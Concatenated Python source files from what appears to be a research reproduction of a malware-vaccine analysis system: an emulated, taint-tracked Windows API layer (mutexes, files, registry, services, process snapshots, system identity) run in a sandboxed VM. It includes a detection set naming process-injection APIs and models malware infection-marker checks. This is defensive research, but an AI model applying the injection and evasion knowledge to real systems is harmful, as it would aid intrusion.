    ctx.env.network.send(ctx.process.pid, conn.conn_id, f"GET {url}\r\n".encode())
    payload = ctx.env.network.recv(ctx.process.pid, conn.conn_id, 4096) or b"payload"
    ctx.env.filesystem.create(
        target, ctx.integrity, content=payload, exist_ok=True, created_by=ctx.process.pid
    )
    return 0
