"""Mutex and event APIs.

``OpenMutexA``'s label follows paper Table I exactly: resource type Mutex,
identifier = 3rd parameter ``lpName``, success = valid handle in EAX, failure
= NULL with ``GetLastError() == 0x02``.
"""

from __future__ import annotations

from ..taint.labels import TaintClass
from ..winenv.errors import NULL, ResourceFault, TRUE, Win32Error
from ..winenv.objects import HandleKind, Operation, ResourceType
from .context import ApiContext
from .labels import FailureSpec, Returns, api


@api(
    "CreateMutexA",
    argc=3,
    returns=Returns.HANDLE,
    resource=ResourceType.MUTEX,
    operation=Operation.CREATE,
    identifier_arg=2,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(NULL, Win32Error.ACCESS_DENIED),
)
def create_mutex(ctx: ApiContext) -> int:
    """Create/open a named mutex; prior existence flows out via last-error
    (``ERROR_ALREADY_EXISTS``) — the classic duplicate-infection check."""
    name = ctx.identifier or ""
    if not name:
        raise ResourceFault(Win32Error.INVALID_PARAMETER, "anonymous mutex")
    mutex, existed = ctx.env.mutexes.create(name, ctx.integrity, created_by=ctx.process.pid)
    from ..winenv.acl import Access

    mutex.acl.check(ctx.integrity, Access.CREATE if not existed else Access.READ)
    handle = ctx.alloc_handle(HandleKind.MUTEX, mutex)
    if existed:
        # Success retval with ERROR_ALREADY_EXISTS: report via last_error,
        # tainted so the subsequent GetLastError comparison is flagged.
        ctx.set_last_error(int(Win32Error.ALREADY_EXISTS), ctx.mint_tag())
        ctx.extra["already_exists"] = True
    return handle.value


@api(
    "OpenMutexA",
    argc=3,
    returns=Returns.HANDLE,
    resource=ResourceType.MUTEX,
    operation=Operation.CHECK,
    identifier_arg=2,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(NULL, Win32Error.FILE_NOT_FOUND),  # 0x02, Table I
)
def open_mutex(ctx: ApiContext) -> int:
    mutex = ctx.env.mutexes.open(ctx.identifier or "")
    handle = ctx.alloc_handle(HandleKind.MUTEX, mutex)
    return handle.value


@api("ReleaseMutex", argc=1, returns=Returns.BOOL)
def release_mutex(ctx: ApiContext) -> int:
    ctx.handle_arg(0)
    return TRUE


# Events are transient resources — the paper's taint-source criteria
# (§III-A "Unique Presence") exclude them, so they carry no resource label
# and mint no taint; they exist so benign/malware code can still call them.


@api("CreateEventA", argc=4, returns=Returns.HANDLE)
def create_event(ctx: ApiContext) -> int:
    handle = ctx.alloc_handle(HandleKind.MUTEX, None)
    return handle.value


@api("SetEvent", argc=1, returns=Returns.BOOL)
def set_event(ctx: ApiContext) -> int:
    return TRUE


@api("WaitForSingleObject", argc=2, returns=Returns.VALUE)
def wait_for_single_object(ctx: ApiContext) -> int:
    return 0  # WAIT_OBJECT_0
