"""Wide-character (W) API variants and remaining resource queries.

The paper's 89 hooked calls count ANSI and wide entry points separately
(real malware mixes both).  Guest strings in this VM are single-byte, so the
W variants share the A implementations — but they are distinct *labelled*
call sites, which matters for alignment keys and hook statistics.
"""

from __future__ import annotations

from dataclasses import replace

from ..taint.labels import TaintClass
from ..winenv.errors import ResourceFault, TRUE, Win32Error
from ..winenv.objects import HandleKind, Operation, ResourceType
from .context import ApiContext
from .labels import REGISTRY, FailureSpec, Returns, api


def _alias(existing: str, alias: str) -> None:
    """Register ``alias`` with the same label + implementation as ``existing``."""
    base = REGISTRY[existing]
    if alias in REGISTRY:
        raise ValueError(f"duplicate alias {alias}")
    REGISTRY[alias] = replace(base, name=alias)


for _a, _w in (
    ("CreateMutexA", "CreateMutexW"),
    ("OpenMutexA", "OpenMutexW"),
    ("CreateFileA", "CreateFileW"),
    ("GetFileAttributesA", "GetFileAttributesW"),
    ("DeleteFileA", "DeleteFileW"),
    ("RegOpenKeyExA", "RegOpenKeyExW"),
    ("RegSetValueExA", "RegSetValueExW"),
    ("FindWindowA", "FindWindowW"),
    ("LoadLibraryA", "LoadLibraryW"),
    ("GetModuleHandleA", "GetModuleHandleW"),
):
    _alias(_a, _w)


@api(
    "MoveFileExA",
    argc=3,
    returns=Returns.BOOL,
    resource=ResourceType.FILE,
    operation=Operation.WRITE,
    identifier_arg=1,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.FILE_NOT_FOUND),
)
def move_file_ex(ctx: ApiContext) -> int:
    src, _ = ctx.read_string_arg(0)
    dst = ctx.identifier or ""
    fs = ctx.env.filesystem
    node = fs.lookup(src)
    if node is None:
        raise ResourceFault(Win32Error.FILE_NOT_FOUND, src)
    fs.create(dst, ctx.integrity, content=bytes(node.content), exist_ok=True,
              created_by=ctx.process.pid)
    fs.delete(src, ctx.integrity)
    return TRUE


@api(
    "ControlService",
    argc=3,
    returns=Returns.BOOL,
    resource=ResourceType.SERVICE,
    operation=Operation.EXECUTE,
    identifier_handle_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.SERVICE_DOES_NOT_EXIST),
)
def control_service(ctx: ApiContext) -> int:
    """(hService, dwControl, lpStatus): 1 = stop."""
    handle = ctx.handle_arg(0)
    control = ctx.arg(1)
    if handle.resource is None or handle.state.get("phantom"):
        raise ResourceFault(Win32Error.INVALID_HANDLE)
    if control == 1:
        ctx.env.services.stop(handle.resource.name, ctx.integrity)
    return TRUE


@api(
    "QueryServiceStatus",
    argc=2,
    returns=Returns.BOOL,
    resource=ResourceType.SERVICE,
    operation=Operation.READ,
    identifier_handle_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.INVALID_HANDLE),
)
def query_service_status(ctx: ApiContext) -> int:
    from ..winenv.services import ServiceState

    handle = ctx.handle_arg(0)
    out = ctx.arg(1)
    if handle.resource is None:
        raise ResourceFault(Win32Error.INVALID_HANDLE)
    svc = ctx.env.services.lookup(handle.resource.name)
    state = 4 if (svc is not None and svc.state is ServiceState.RUNNING) else 1
    if out:
        ctx.write_u32(out, state, ctx.mint_tag())
    return TRUE


@api(
    "RegQueryInfoKeyA",
    argc=3,
    returns=Returns.ERRCODE,
    resource=ResourceType.REGISTRY,
    operation=Operation.READ,
    identifier_handle_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(int(Win32Error.INVALID_HANDLE), Win32Error.INVALID_HANDLE),
    doc="(hKey, lpcSubKeys out, lpcValues out).",
)
def reg_query_info_key(ctx: ApiContext) -> int:
    handle = ctx.handle_arg(0)
    subkeys_ptr, values_ptr = ctx.arg(1), ctx.arg(2)
    if handle.resource is None:
        raise ResourceFault(Win32Error.INVALID_HANDLE)
    reg = ctx.env.registry
    tag = ctx.mint_tag()
    if subkeys_ptr:
        ctx.write_u32(subkeys_ptr, len(reg.subkeys(handle.resource.name)), tag)
    if values_ptr:
        ctx.write_u32(values_ptr, len(reg.enum_values(handle.resource.name)), tag)
    return 0


@api(
    "Module32First",
    argc=2,
    returns=Returns.BOOL,
    resource=ResourceType.LIBRARY,
    operation=Operation.READ,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.NO_MORE_ITEMS),
    doc="(hSnapshot, lpme out): first loaded module name of this process.",
)
def module32_first(ctx: ApiContext) -> int:
    out = ctx.arg(1)
    libs = sorted(lib.name for lib in ctx.env.libraries)
    if not libs:
        raise ResourceFault(Win32Error.NO_MORE_ITEMS)
    ctx.write_string(out, libs[0], taint=ctx.mint_tag())
    return TRUE
