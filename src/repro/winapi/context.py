"""Per-call API execution context.

Wraps the CPU + environment + process for one API invocation, giving
implementations typed access to guest memory (with def/use recording so API
pseudo-steps slot into the backward-slicing trace) and to taint minting.
"""

from __future__ import annotations

from typing import List, Optional, Tuple

from ..taint.labels import EMPTY, TagSet, TaintClass, TaintTag, union
from ..winenv.environment import SystemEnvironment
from ..winenv.errors import ResourceFault, Win32Error
from ..winenv.objects import Handle, HandleKind, Resource
from ..winenv.processes import Process


class ApiContext:
    """Everything an API implementation needs for one invocation."""

    __slots__ = (
        "cpu",
        "env",
        "process",
        "apidef",
        "event_id",
        "args",
        "arg_taints",
        "identifier",
        "identifier_taints",
        "extra",
        "retval_taint",
        "operation_override",
        "explicit_last_error",
    )

    def __init__(
        self,
        cpu,
        environment: SystemEnvironment,
        process: Process,
        apidef,
        event_id: int,
    ) -> None:
        self.cpu = cpu
        self.env = environment
        self.process = process
        self.apidef = apidef
        self.event_id = event_id
        #: Filled by the dispatcher before the impl runs.
        self.args: List[int] = []
        self.arg_taints: List[TagSet] = []
        #: Resolved resource identifier (set by dispatcher when labelled).
        self.identifier: Optional[str] = None
        self.identifier_taints: Optional[List[TagSet]] = None
        #: Implementation-set extras copied onto the event.
        self.extra: dict = {}
        #: Taint to place on the return value (defaults to the minted tag).
        self.retval_taint: TagSet = EMPTY
        #: Implementations may refine the labelled operation (e.g. CreateFile
        #: is CREATE or READ depending on its disposition argument).
        self.operation_override = None
        #: True once an implementation set last-error itself (e.g.
        #: CreateMutex's ERROR_ALREADY_EXISTS on success).
        self.explicit_last_error = False

    # -- taint ----------------------------------------------------------------

    def mint_tag(self, klass: Optional[TaintClass] = None) -> TagSet:
        klass = klass or self.apidef.taint_class
        if klass is None:
            return EMPTY
        return frozenset({TaintTag(self.event_id, self.apidef.name, klass)})

    # -- argument access --------------------------------------------------------

    def arg(self, index: int) -> int:
        """Argument value; beyond the pre-read ones, reads the guest stack."""
        while index >= len(self.args):
            value, taint = self.cpu.stack_arg(len(self.args))
            self.args.append(value)
            self.arg_taints.append(taint)
        return self.args[index]

    def prefetch_args(self, argc: int) -> None:
        """Batch-read the declared arguments (dispatcher pre-read path).

        Equivalent to ``arg(0..argc-1)`` — same values, taints, and stack
        use records — via one block read instead of one per slot."""
        if not self.args:
            values, taints = self.cpu.read_stack_args(argc)
            self.args.extend(values)
            self.arg_taints.extend(taints)
        elif argc > 0:
            self.arg(argc - 1)

    def arg_taint(self, index: int) -> TagSet:
        self.arg(index)
        return self.arg_taints[index]

    # -- guest memory -----------------------------------------------------------

    def read_string(self, addr: int, max_len: int = 4096) -> Tuple[str, List[TagSet]]:
        """Read a NUL-terminated guest string and per-*character* taints.

        Guest bytes are UTF-8 (what :meth:`write_string` produces): a
        multi-byte character's taint is the union of its bytes' taints, so
        a write/read round trip preserves both the text — non-latin-1
        identifiers included — and its taint shape.  Bytes that are not
        valid UTF-8 (guest-constructed buffers) survive via surrogateescape
        instead of being mangled, keeping the round trip an identity there
        too.  Use records stay byte-level, matching memory."""
        if addr == 0:
            return "", []
        from ..vm.memory import MemoryFault

        try:
            raw_text, byte_taints = self.cpu.memory.read_cstring(addr, max_len)
        except MemoryFault:
            # A bogus guest pointer is the API's problem, not the host's:
            # real APIs validate and fail gracefully.
            return "", []
        if self.cpu._track:
            self.cpu._uses.extend(("mem", addr + i) for i in range(len(raw_text) + 1))
        if raw_text.isascii():
            # One byte per character: byte taints are character taints.
            return raw_text, byte_taints
        raw = raw_text.encode("latin-1")  # exact bytes back from read_cstring
        text = raw.decode("utf-8", "surrogateescape")
        taints: List[TagSet] = []
        pos = 0
        for ch in text:
            width = len(ch.encode("utf-8", "surrogateescape"))
            live = [t for t in byte_taints[pos : pos + width] if t]
            taints.append(union(*live) if live else EMPTY)
            pos += width
        return text, taints

    def read_string_arg(self, index: int) -> Tuple[str, List[TagSet]]:
        return self.read_string(self.arg(index))

    def write_string(self, addr: int, text: str, taints=None, taint: TagSet = EMPTY) -> None:
        """Write ``text`` as NUL-terminated UTF-8 guest bytes.

        ``taints`` is per *character* (matching what :meth:`read_string`
        returns); each character's taint is expanded over every byte of its
        encoding.  Def records stay byte-level, matching memory."""
        mem = self.cpu.memory
        if taints is None:
            data = text.encode("utf-8", "surrogateescape")
            for i, b in enumerate(data):
                mem.write_byte(addr + i, b, taint)
            length = len(data)
        else:
            pos = addr
            for i, ch in enumerate(text):
                t = taints[i] if i < len(taints) else EMPTY
                for b in ch.encode("utf-8", "surrogateescape"):
                    mem.write_byte(pos, b, t)
                    pos += 1
            length = pos - addr
        mem.write_byte(addr + length, 0, EMPTY)
        if self.cpu._track:
            self.cpu._defs.extend(("mem", addr + i) for i in range(length + 1))

    def read_u32(self, addr: int) -> int:
        value, _ = self.cpu.read_mem(addr, 4)
        return value

    def write_u32(self, addr: int, value: int, taint: TagSet = EMPTY) -> None:
        self.cpu.write_mem(addr, value, 4, taint)

    def read_buffer(self, addr: int, size: int) -> bytes:
        data = self.cpu.memory.read_bytes(addr, size)
        if self.cpu._track:
            self.cpu._uses.extend(("mem", addr + i) for i in range(size))
        return data

    def write_buffer(self, addr: int, data: bytes, taint: TagSet = EMPTY) -> None:
        for i, b in enumerate(data):
            self.cpu.memory.write_byte(addr + i, b, taint)
        if self.cpu._track:
            self.cpu._defs.extend(("mem", addr + i) for i in range(len(data)))

    def read_buffer_taints(self, addr: int, size: int) -> List[TagSet]:
        return [self.cpu.memory.read_byte(addr + i)[1] for i in range(size)]

    # -- handles ------------------------------------------------------------------

    def alloc_handle(self, kind: HandleKind, resource: Optional[Resource]) -> Handle:
        handle = self.process.handles.allocate(kind, resource)
        handle.state["opened_by_event"] = self.event_id
        return handle

    def handle(self, value: int) -> Handle:
        handle = self.process.handles.get(value)
        if handle is None:
            raise ResourceFault(Win32Error.INVALID_HANDLE, f"handle 0x{value:x}")
        return handle

    def handle_arg(self, index: int) -> Handle:
        return self.handle(self.arg(index))

    # -- misc -----------------------------------------------------------------------

    def set_last_error(self, error: int, tag: TagSet = EMPTY) -> None:
        self.explicit_last_error = True
        self.process.last_error = int(error)
        # Remember provenance so GetLastError() returns tainted data.
        self.process.__dict__["last_error_tag"] = tag

    @property
    def integrity(self):
        return self.process.integrity
