"""Labelled Windows API layer.

Importing this package registers every API implementation into
:data:`repro.winapi.labels.REGISTRY`; the :class:`Dispatcher` executes
``call @Api`` instructions against a
:class:`~repro.winenv.environment.SystemEnvironment`.
"""

from . import (  # noqa: F401  (imports populate the registry)
    enum_api,
    file_api,
    kernel_objects_api,
    library_api,
    mutex_api,
    network_api,
    process_api,
    registry_api,
    service_api,
    string_api,
    system_api,
    window_api,
)
from . import wide_api  # noqa: F401  (aliases; must import after the A variants)
from .context import ApiContext
from .dispatcher import Dispatcher, Interception, Interceptor
from .labels import (
    HIVE_NAMES,
    HKEY_CURRENT_USER,
    HKEY_LOCAL_MACHINE,
    REGISTRY,
    ApiDef,
    Calling,
    FailureSpec,
    Returns,
    api,
    hooked_api_count,
    lookup,
    resource_apis,
)

#: APIs whose presence in the difference set signals self-termination
#: (full immunization, paper §IV-B).
TERMINATION_APIS = frozenset({"ExitProcess", "ExitThread", "TerminateProcess"})

#: Network-behaviour APIs for Type-II detection.
NETWORK_APIS = frozenset(d.name for d in REGISTRY.values() if d.network)

#: Injection-evidence APIs for Type-IV detection.
INJECTION_APIS = frozenset({"OpenProcess", "FindProcessA", "VirtualAllocEx",
                            "WriteProcessMemory", "CreateRemoteThread"})

__all__ = [
    "ApiContext",
    "ApiDef",
    "Calling",
    "Dispatcher",
    "FailureSpec",
    "HIVE_NAMES",
    "HKEY_CURRENT_USER",
    "HKEY_LOCAL_MACHINE",
    "INJECTION_APIS",
    "Interception",
    "Interceptor",
    "NETWORK_APIS",
    "REGISTRY",
    "Returns",
    "TERMINATION_APIS",
    "api",
    "hooked_api_count",
    "lookup",
    "resource_apis",
]
