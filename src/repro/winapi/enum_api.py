"""Enumeration and miscellaneous query APIs: Toolhelp snapshots, registry
enumeration, drives, window text, shell execution."""

from __future__ import annotations

from ..taint.labels import TaintClass
from ..winenv.errors import NULL, ResourceFault, TRUE, Win32Error
from ..winenv.objects import HandleKind, Operation, ResourceType
from .context import ApiContext
from .labels import FailureSpec, Returns, api

ERROR_NO_MORE = int(Win32Error.NO_MORE_ITEMS)


@api(
    "CreateToolhelp32Snapshot",
    argc=2,
    returns=Returns.HANDLE,
    failure=FailureSpec(0xFFFFFFFF, Win32Error.INVALID_PARAMETER),
)
def create_toolhelp_snapshot(ctx: ApiContext) -> int:
    handle = ctx.alloc_handle(HandleKind.PROCESS, None)
    handle.state["snapshot"] = [p.pid for p in ctx.env.processes.alive_processes()]
    handle.state["cursor"] = 0
    return handle.value


def _toolhelp_step(ctx: ApiContext, reset: bool) -> int:
    """Writes a PROCESSENTRY32-like record: pid (u32) then the image name."""
    handle = ctx.handle_arg(0)
    entry_ptr = ctx.arg(1)
    pids = handle.state.get("snapshot")
    if pids is None:
        raise ResourceFault(Win32Error.INVALID_HANDLE)
    if reset:
        handle.state["cursor"] = 0
    cursor = handle.state["cursor"]
    if cursor >= len(pids):
        raise ResourceFault(Win32Error.NO_MORE_ITEMS)
    handle.state["cursor"] = cursor + 1
    proc = ctx.env.processes.get(pids[cursor])
    tag = ctx.mint_tag(TaintClass.RESOURCE)
    ctx.write_u32(entry_ptr, proc.pid, tag)
    ctx.write_string(entry_ptr + 4, proc.name, taint=tag)
    ctx.extra["process_name"] = proc.name
    return TRUE


@api(
    "Process32First",
    argc=2,
    returns=Returns.BOOL,
    resource=ResourceType.PROCESS,
    operation=Operation.READ,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.NO_MORE_ITEMS),
)
def process32_first(ctx: ApiContext) -> int:
    return _toolhelp_step(ctx, reset=True)


@api(
    "Process32Next",
    argc=2,
    returns=Returns.BOOL,
    resource=ResourceType.PROCESS,
    operation=Operation.READ,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.NO_MORE_ITEMS),
)
def process32_next(ctx: ApiContext) -> int:
    return _toolhelp_step(ctx, reset=False)


@api(
    "RegEnumKeyExA",
    argc=4,
    returns=Returns.ERRCODE,
    resource=ResourceType.REGISTRY,
    operation=Operation.READ,
    identifier_handle_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(ERROR_NO_MORE, Win32Error.NO_MORE_ITEMS),
    doc="(hKey, dwIndex, lpName, cchName): enumerate subkey names.",
)
def reg_enum_key(ctx: ApiContext) -> int:
    handle = ctx.handle_arg(0)
    index, buf = ctx.arg(1), ctx.arg(2)
    if handle.resource is None:
        raise ResourceFault(Win32Error.INVALID_HANDLE)
    subkeys = ctx.env.registry.subkeys(handle.resource.name)
    if index >= len(subkeys):
        raise ResourceFault(Win32Error.NO_MORE_ITEMS)
    leaf = subkeys[index].rsplit("\\", 1)[-1]
    ctx.write_string(buf, leaf, taint=ctx.mint_tag())
    return 0


@api(
    "RegEnumValueA",
    argc=4,
    returns=Returns.ERRCODE,
    resource=ResourceType.REGISTRY,
    operation=Operation.READ,
    identifier_handle_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(ERROR_NO_MORE, Win32Error.NO_MORE_ITEMS),
    doc="(hKey, dwIndex, lpValueName, cchName): enumerate value names.",
)
def reg_enum_value(ctx: ApiContext) -> int:
    handle = ctx.handle_arg(0)
    index, buf = ctx.arg(1), ctx.arg(2)
    if handle.resource is None:
        raise ResourceFault(Win32Error.INVALID_HANDLE)
    values = ctx.env.registry.enum_values(handle.resource.name)
    if index >= len(values):
        raise ResourceFault(Win32Error.NO_MORE_ITEMS)
    ctx.write_string(buf, values[index][0], taint=ctx.mint_tag())
    return 0


@api(
    "SetFileAttributesA",
    argc=2,
    returns=Returns.BOOL,
    resource=ResourceType.FILE,
    operation=Operation.WRITE,
    identifier_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.FILE_NOT_FOUND),
)
def set_file_attributes(ctx: ApiContext) -> int:
    node = ctx.env.filesystem.lookup(ctx.identifier or "")
    if node is None:
        raise ResourceFault(Win32Error.FILE_NOT_FOUND, ctx.identifier or "")
    from ..winenv.acl import Access

    node.acl.check(ctx.integrity, Access.WRITE)
    return TRUE


@api(
    "RemoveDirectoryA",
    argc=1,
    returns=Returns.BOOL,
    resource=ResourceType.FILE,
    operation=Operation.DELETE,
    identifier_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.FILE_NOT_FOUND),
)
def remove_directory(ctx: ApiContext) -> int:
    ctx.env.filesystem.delete(ctx.identifier or "", ctx.integrity)
    return TRUE


@api("GetDriveTypeA", argc=1, returns=Returns.VALUE, taint=TaintClass.ENV_DETERMINISTIC)
def get_drive_type(ctx: ApiContext) -> int:
    return 3  # DRIVE_FIXED


@api("GetDiskFreeSpaceA", argc=2, returns=Returns.BOOL, taint=TaintClass.ENV_DETERMINISTIC)
def get_disk_free_space(ctx: ApiContext) -> int:
    out = ctx.arg(1)
    if out:
        ctx.write_u32(out, 0x4000_0000, ctx.mint_tag())  # 1 GiB free
    return TRUE


@api("gethostname", argc=2, returns=Returns.VALUE, taint=TaintClass.ENV_DETERMINISTIC,
     network=True)
def gethostname_(ctx: ApiContext) -> int:
    buf = ctx.arg(0)
    ctx.write_string(buf, ctx.env.identity.computer_name.lower(), taint=ctx.mint_tag())
    return 0


@api(
    "GetWindowTextA",
    argc=3,
    returns=Returns.VALUE,
    resource=ResourceType.WINDOW,
    operation=Operation.READ,
    identifier_handle_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.INVALID_HANDLE),
)
def get_window_text(ctx: ApiContext) -> int:
    handle = ctx.handle_arg(0)
    buf = ctx.arg(1)
    if handle.resource is None:
        raise ResourceFault(Win32Error.INVALID_HANDLE)
    title = getattr(handle.resource, "title", "") or ""
    ctx.write_string(buf, title, taint=ctx.mint_tag())
    return len(title)


@api(
    "WinExec",
    argc=2,
    returns=Returns.VALUE,
    resource=ResourceType.PROCESS,
    operation=Operation.CREATE,
    identifier_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(2, Win32Error.FILE_NOT_FOUND),  # <32 means failure
)
def win_exec(ctx: ApiContext) -> int:
    command = (ctx.identifier or "").split(" ")[0]
    node = ctx.env.filesystem.lookup(command)
    if node is None:
        raise ResourceFault(Win32Error.FILE_NOT_FOUND, command)
    from ..winenv.filesystem import basename

    child = ctx.env.processes.spawn(
        basename(command), image_path=command, integrity=ctx.integrity,
        parent_pid=ctx.process.pid,
    )
    ctx.extra["child_pid"] = child.pid
    return 33


@api(
    "ShellExecuteA",
    argc=3,
    returns=Returns.VALUE,
    resource=ResourceType.PROCESS,
    operation=Operation.CREATE,
    identifier_arg=1,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(2, Win32Error.FILE_NOT_FOUND),
    doc="(hwnd, lpFile, lpParameters) — simplified shell launch.",
)
def shell_execute(ctx: ApiContext) -> int:
    target = ctx.identifier or ""
    node = ctx.env.filesystem.lookup(target)
    if node is None:
        raise ResourceFault(Win32Error.FILE_NOT_FOUND, target)
    from ..winenv.filesystem import basename

    ctx.env.processes.spawn(
        basename(target), image_path=target.lower(), integrity=ctx.integrity,
        parent_pid=ctx.process.pid,
    )
    return 42
