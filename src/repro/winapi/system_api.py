"""System information and entropy APIs.

These are the *sources* determinism analysis classifies identifier roots by:
``ENV_DETERMINISTIC`` outputs (computer name, volume serial…) make an
identifier algorithm-deterministic; ``RANDOM`` outputs make it unpredictable
(paper §IV-C and Figure 2).
"""

from __future__ import annotations

from ..taint.labels import EMPTY, TaintClass
from ..winenv.errors import TRUE, Win32Error
from .context import ApiContext
from .labels import FailureSpec, Returns, api


@api(
    "GetComputerNameA",
    argc=2,
    returns=Returns.BOOL,
    taint=TaintClass.ENV_DETERMINISTIC,
    failure=FailureSpec(0, Win32Error.INSUFFICIENT_BUFFER),
)
def get_computer_name(ctx: ApiContext) -> int:
    """The paper's canonical deterministic seed (Figure 2, Conficker case)."""
    buf, size_ptr = ctx.arg(0), ctx.arg(1)
    name = ctx.env.identity.computer_name
    ctx.write_string(buf, name, taint=ctx.mint_tag())
    if size_ptr:
        ctx.write_u32(size_ptr, len(name))
    return TRUE


@api(
    "GetUserNameA",
    argc=2,
    returns=Returns.BOOL,
    taint=TaintClass.ENV_DETERMINISTIC,
    failure=FailureSpec(0, Win32Error.INSUFFICIENT_BUFFER),
)
def get_user_name(ctx: ApiContext) -> int:
    buf, size_ptr = ctx.arg(0), ctx.arg(1)
    name = ctx.env.identity.user_name
    ctx.write_string(buf, name, taint=ctx.mint_tag())
    if size_ptr:
        ctx.write_u32(size_ptr, len(name))
    return TRUE


@api(
    "GetVolumeInformationA",
    argc=2,
    returns=Returns.BOOL,
    taint=TaintClass.ENV_DETERMINISTIC,
    doc="Simplified: (lpRootPathName, lpVolumeSerialNumber out).",
)
def get_volume_information(ctx: ApiContext) -> int:
    serial_ptr = ctx.arg(1)
    if serial_ptr:
        ctx.write_u32(serial_ptr, ctx.env.identity.volume_serial, ctx.mint_tag())
    return TRUE


@api("GetVersion", argc=0, returns=Returns.VALUE, taint=TaintClass.ENV_DETERMINISTIC)
def get_version(ctx: ApiContext) -> int:
    major, minor, _build = ctx.env.identity.windows_version.split(".")
    return (int(minor) << 8) | int(major)


@api(
    "GetSystemDirectoryA",
    argc=2,
    returns=Returns.VALUE,
    taint=TaintClass.ENV_DETERMINISTIC,
)
def get_system_directory(ctx: ApiContext) -> int:
    from ..winenv.filesystem import SYSTEM32

    buf = ctx.arg(0)
    ctx.write_string(buf, SYSTEM32, taint=ctx.mint_tag())
    return len(SYSTEM32)


@api(
    "GetWindowsDirectoryA",
    argc=2,
    returns=Returns.VALUE,
    taint=TaintClass.ENV_DETERMINISTIC,
)
def get_windows_directory(ctx: ApiContext) -> int:
    buf = ctx.arg(0)
    ctx.write_string(buf, "c:\\windows", taint=ctx.mint_tag())
    return 10


@api(
    "GetEnvironmentVariableA",
    argc=3,
    returns=Returns.VALUE,
    taint=TaintClass.ENV_DETERMINISTIC,
    failure=FailureSpec(0, Win32Error.FILE_NOT_FOUND),
)
def get_environment_variable(ctx: ApiContext) -> int:
    name, _ = ctx.read_string_arg(0)
    buf = ctx.arg(1)
    table = {
        "COMPUTERNAME": ctx.env.identity.computer_name,
        "USERNAME": ctx.env.identity.user_name,
        "TEMP": "c:\\windows\\temp",
        "WINDIR": "c:\\windows",
    }
    value = table.get(name.upper())
    if value is None:
        from ..winenv.errors import ResourceFault

        raise ResourceFault(Win32Error.FILE_NOT_FOUND, name)
    ctx.write_string(buf, value, taint=ctx.mint_tag())
    return len(value)


@api("GetTickCount", argc=0, returns=Returns.VALUE, taint=TaintClass.RANDOM)
def get_tick_count(ctx: ApiContext) -> int:
    return ctx.env.tick_count()


@api("QueryPerformanceCounter", argc=1, returns=Returns.BOOL, taint=TaintClass.RANDOM)
def query_performance_counter(ctx: ApiContext) -> int:
    out = ctx.arg(0)
    ctx.write_u32(out, ctx.env.performance_counter(), ctx.mint_tag())
    return TRUE


@api("GetSystemTime", argc=1, returns=Returns.VOID, taint=TaintClass.RANDOM)
def get_system_time(ctx: ApiContext) -> int:
    out = ctx.arg(0)
    ctx.write_u32(out, ctx.env.tick_count(), ctx.mint_tag())
    return 0


@api("rand", argc=0, returns=Returns.VALUE, taint=TaintClass.RANDOM)
def rand_(ctx: ApiContext) -> int:
    return ctx.env.random_u32() & 0x7FFF


@api("srand", argc=1, returns=Returns.VOID)
def srand_(ctx: ApiContext) -> int:
    return 0


@api("GetLastError", argc=0, returns=Returns.VALUE)
def get_last_error(ctx: ApiContext) -> int:
    """Returns the thread's last error *with the provenance of the API that
    set it*, so ``cmp eax, 0x02`` after a failed OpenMutex is a tainted
    predicate."""
    ctx.retval_taint = ctx.process.__dict__.get("last_error_tag", EMPTY)
    ctx.explicit_last_error = True  # reading must not reset the slot
    return ctx.process.last_error


@api("SetLastError", argc=1, returns=Returns.VOID)
def set_last_error(ctx: ApiContext) -> int:
    ctx.set_last_error(ctx.arg(0), ctx.arg_taint(0))
    return 0


@api("GetCommandLineA", argc=0, returns=Returns.VALUE, taint=TaintClass.ENV_DETERMINISTIC)
def get_command_line(ctx: ApiContext) -> int:
    from ..vm.memory import HEAP_BASE

    addr = HEAP_BASE + 0x8000
    ctx.write_string(addr, ctx.process.image_path, taint=ctx.mint_tag())
    return addr
