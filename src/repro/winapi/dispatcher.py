"""API dispatcher: the single choke point between guest code and the
environment.

This is where DynamoRIO-style instrumentation lives in the reproduction:
argument capture, identifier resolution through the labelling DB, taint
minting, event logging with calling context — and *interception*, used both by
Phase-II impact analysis (mutate one API's result) and by the Phase-III
vaccine daemon (block matching identifiers at runtime).
"""

from __future__ import annotations

import enum
import time
from typing import Iterable, List, Optional, Protocol

from .. import obs
from ..taint.labels import EMPTY, union
from ..tracing.events import ApiCallEvent
from ..winenv.environment import SystemEnvironment
from ..winenv.errors import ResourceFault, Win32Error
from ..winenv.objects import HandleKind, Resource
from ..winenv.processes import Process
from .context import ApiContext
from .labels import REGISTRY, ApiDef, Calling, Returns, lookup


class Interception(enum.Enum):
    """An interceptor's verdict on one API call."""

    PASS = "pass"
    FORCE_FAIL = "force_fail"
    #: Fail with an already-exists flavour (simulating the marker's presence
    #: against a *create* operation).
    FORCE_FAIL_EXISTS = "force_fail_exists"
    FORCE_SUCCESS = "force_success"


class Interceptor(Protocol):
    """Implemented by mutation specs (Phase II) and the vaccine daemon."""

    def intercept(self, apidef: ApiDef, event: ApiCallEvent) -> Interception:
        ...  # pragma: no cover


class _FlushCache:
    """Counter handles reused across flush_obs() calls.

    Keyed by the registry generation: ``obs.reset()`` discards the families
    these handles point into, so a generation mismatch drops the cache."""

    __slots__ = ("generation", "handles")

    def __init__(self) -> None:
        self.generation = -1
        self.handles: dict = {}


_FLUSH_CACHE = _FlushCache()

#: api name -> ("api;Name", "api;Name;read_args").  Interned once: the
#: profiled invoke() path must not pay string formatting per call.
_API_PROF_PATHS: dict = {}


class Dispatcher:
    """Executes ``call @Api`` instructions against a SystemEnvironment."""

    def __init__(
